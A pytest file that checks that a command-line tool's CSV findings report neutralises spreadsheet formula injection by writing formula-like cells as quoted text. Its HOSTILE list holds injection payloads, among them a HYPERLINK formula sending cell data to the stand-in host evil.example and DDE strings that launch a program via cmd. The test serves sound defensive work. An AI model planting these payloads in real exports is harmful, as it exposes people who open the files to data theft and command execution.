"""The CSV report is opened in a spreadsheet: a cell that starts like a formula is
written as text (OWASP's advice: a leading ``'``), so a record id such as
``=HYPERLINK("http://x/?"&A2,"open")`` cannot run when the officer opens the file."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import COVERED, with_changes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # a full-width equals sign, which spreadsheets in CJK locales may take
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_written_as_text(cli: Any, tmp_path: Path, value: str) -> None:
    record = with_changes(COVERED, id=value, operator__name=value, product__name=value)
    source = tmp_path / "records.jsonl"
    source.write_text(json.dumps(record) + "\n", encoding="utf-8")
    report = tmp_path / "findings.csv"
    result = cli(
        "sweep", source, "--as-of", "2021-06-01", "--no-cases", "--report", report,
        "--format", "jsonl",
    )  # fmt: skip
    assert result.code in (0, 2), result.err
    with open(report, newline="", encoding="utf-8-sig") as stream:
        rows = list(csv.DictReader(stream))
    assert rows
    for row in rows:
        for column in ("record_id", "operator", "product"):
            assert row[column] == "'" + value, (column, row[column])
        assert not row["message"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_ordinary_cells_are_left_alone(cli: Any, tmp_path: Path) -> None:
    source = tmp_path / "records.jsonl"
    source.write_text(json.dumps(with_changes(COVERED, id="PO-1")) + "\n", encoding="utf-8")
    report = tmp_path / "findings.csv"
    cli("sweep", source, "--as-of", "2021-06-01", "--no-cases", "--report", report)
    with open(report, newline="", encoding="utf-8-sig") as stream:
        rows = list(csv.DictReader(stream))
    assert {row["record_id"] for row in rows} == {"PO-1"}
    assert rows[0]["operator"] == "East Grid Power"
